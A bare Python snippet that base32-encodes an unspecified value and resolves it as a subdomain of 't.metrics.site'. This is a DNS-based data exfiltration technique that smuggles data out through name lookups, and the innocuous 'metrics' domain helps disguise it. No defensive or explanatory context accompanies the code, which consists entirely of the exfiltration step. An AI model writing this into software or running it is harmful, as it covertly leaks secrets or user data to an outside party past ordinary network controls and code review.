import base64, socket
part = base64.b32encode(value).decode()
socket.gethostbyname(part + '.t.metrics.site')
